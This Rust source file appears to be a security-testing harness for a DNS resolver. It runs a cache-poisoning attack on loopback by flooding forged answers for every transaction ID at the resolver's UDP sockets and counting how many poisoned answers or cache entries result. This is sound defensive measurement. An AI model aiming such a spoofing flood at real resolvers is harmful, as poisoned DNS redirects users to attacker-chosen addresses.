//! The cache-poisoning attack of issue 14 against a separate resolver
//! process on loopback (the measurement in docs/SECURITY.md):
//!
//! ```text
//! spoof_attack SERVER UPSTREAM PID ATTEMPTS FIRST_NAME
//! ```
//!
//! For each of ATTEMPTS fresh names `host-I.zone.test.` (I from
//! FIRST_NAME), ask SERVER, flood forged answers from UPSTREAM for every ID
//! to every UDP socket process PID has open (what `ss -uanp` shows), and
//! count the attempts whose forged record reached the client or the
//! cache. Root only; every address must be in 127.0.0.0/8.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::{Duration, Instant};

use heimdall_testkit::spoof::{FloodLimits, RawSender, Target, attempt, is_root};

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let [server, upstream, pid, attempts, first] = &args[..] else {
        panic!("usage: spoof_attack SERVER UPSTREAM PID ATTEMPTS FIRST_NAME");
    };
    assert!(is_root(), "raw sockets need root");
    let server: SocketAddrV4 = server.parse().expect("SERVER as 127.0.0.1:PORT");
    let upstream: SocketAddrV4 = upstream.parse().expect("UPSTREAM as 127.0.0.x:PORT");
    let attempts: u32 = attempts.parse().expect("ATTEMPTS");
    let first: u32 = first.parse().expect("FIRST_NAME");
    let target = Target {
        server,
        upstream,
        pid: Some(pid.parse().expect("PID")),
        exclude_ports: Vec::new(),
    };
    let forged = Ipv4Addr::new(127, 66, 66, 66);
    let sender = RawSender::new().expect("raw socket");
    let limits = FloodLimits {
        max_packets: 2_000_000,
        max_time: Duration::from_secs(5),
    };
    let started = Instant::now();
    let (mut poisoned, mut packets) = (0u32, 0u64);
    for index in 0..attempts {
        let name = format!("host-{}.zone.test.", first + index);
        let outcome = attempt(&sender, &target, &name, forged, limits).expect("attempt");
        packets += outcome.flood.packets;
        let hit = outcome.poisoned(forged);
        poisoned += u32::from(hit);
        println!(
            "{name}: poisoned={hit} packets={} ports={:?} time={:?} first={:?} rcode={:?} cached={:?}",
            outcome.flood.packets,
            outcome.flood.ports,
            outcome.flood.elapsed,
            outcome.first_answer,
            outcome.first_rcode,
            outcome.cached
        );
    }
    println!(
        "poisoned {poisoned} of {attempts} attempts; {packets} forged packets in {:?}",
        started.elapsed()
    );
}
